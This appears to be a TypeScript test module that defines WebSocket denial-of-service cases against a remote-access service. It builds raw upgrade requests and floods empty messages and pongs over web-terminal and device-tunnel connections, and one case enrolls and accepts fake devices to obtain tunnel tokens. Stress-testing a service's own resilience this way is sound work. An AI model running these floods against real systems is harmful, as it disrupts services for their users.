// Attacks by frames on WebSockets: frames without content cost the sender least.
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import type { Attacker, TenantCase } from "./tenantCase.ts";

/** First bytes of frames from a client: an empty text message, and a pong, with a mask of zeros. */
const MESSAGE = Buffer.from([0x81, 0x80, 0, 0, 0, 0]);
const PONG = Buffer.from([0x8a, 0x80, 0, 0, 0, 0]);
/** Number of frames that the attacker writes at once. */
const FRAMES = 10_000;
/** Time in milliseconds after which the attacker gives up a connection whose frames the service does not read. */
const PATIENCE = 1000;

/**
 * Opens a WebSocket, and sends frames until the service disconnects or no longer reads. The attacker ignores the closing
 * handshake, so it uses no WebSocket library.
 */
async function flood({ url, count }: Attacker, path: string, headers: string, frame: Buffer): Promise<void> {
  const frames = Buffer.concat(Array.from({ length: FRAMES }, () => frame));
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const closed = new Promise<undefined>((resolve) => socket.on("close", () => resolve(undefined)));
  socket.on("error", () => {});
  const key = randomBytes(16).toString("base64");
  const upgrade = `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}`;
  socket.write(`GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n${upgrade}\r\n${headers}\r\n`);
  const answer = await Promise.race([once(socket, "data"), closed]).catch(() => undefined);
  const [, status = "closed"] = /^HTTP\/1\.1 (\d+)/.exec(String(answer?.[0])) ?? [];
  count(status);
  if (status !== "101") {
    socket.destroy();
    await wait(PATIENCE);
    return;
  }
  socket.resume();
  while (!socket.destroyed) {
    if (socket.write(frames)) {
      await wait(1);
      continue;
    }
    const drained = once(socket, "drain").then(
      () => true,
      () => false,
    );
    if (!(await Promise.race([drained, closed.then(() => false), wait(PATIENCE).then(() => false)]))) break;
    count("10,000 frames");
  }
  socket.destroy();
  await wait(1);
}

const refusedTerminal = (frame: Buffer) => (attacker: Attacker) =>
  flood(attacker, "/ws/ssh?token=unknown", "", frame);

/** Enrolls devices, and returns their tokens. */
async function enroll(url: string, tenantId: string, token: string, devices: number): Promise<string[]> {
  const tokens: string[] = [];
  const send = async (method: string, path: string, headers: Record<string, string>, body?: object) => {
    const text = body === undefined ? null : JSON.stringify(body);
    const response = await fetch(`${url}${path}`, { method, headers, body: text });
    if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
    return response;
  };
  for (let index = 0; index < devices; index += 1) {
    const info = {
      id: "debian",
      pretty_name: "Debian",
      version: "v0.19.0",
      arch: "amd64",
      platform: "native",
    };
    const response = await send(
      "POST",
      "/api/devices/auth",
      { "content-type": "application/json" },
      {
        info,
        hostname: `flood-${index}`,
        identity: { mac: `02:00:00:00:00:0${index}` },
        public_key: `key ${index}`,
        tenant_id: tenantId,
      },
    );
    const device = (await response.json()) as { readonly uid: string; readonly token: string };
    await send("PATCH", `/api/devices/${device.uid}/accept`, { authorization: `Bearer ${token}` });
    tokens.push(device.token);
  }
  return tokens;
}

const TUNNELS = 4;
let nextTunnel = 0;

export const WEB_SOCKET_CASES = {
  refusedMessages: {
    title: "empty messages on 1 web terminal with a refused ticket",
    parallel: 1,
    run: refusedTerminal(MESSAGE),
  },
  refusedPongs: {
    title: "pongs on 20 web terminals with a refused ticket",
    parallel: 20,
    run: refusedTerminal(PONG),
  },
  tunnelPongs: {
    title: "pongs on the tunnels of 4 devices",
    parallel: TUNNELS,
    prepare: ({ url, tenantId, token }) => enroll(url, tenantId, token, TUNNELS),
    run(attacker, tokens) {
      nextTunnel += 1;
      const header = `Authorization: Bearer ${tokens[nextTunnel % TUNNELS]}\r\n`;
      return flood(attacker, "/ssh/connection", header, PONG);
    },
  } satisfies TenantCase<readonly string[]>,
} as const satisfies Readonly<Record<string, TenantCase>>;
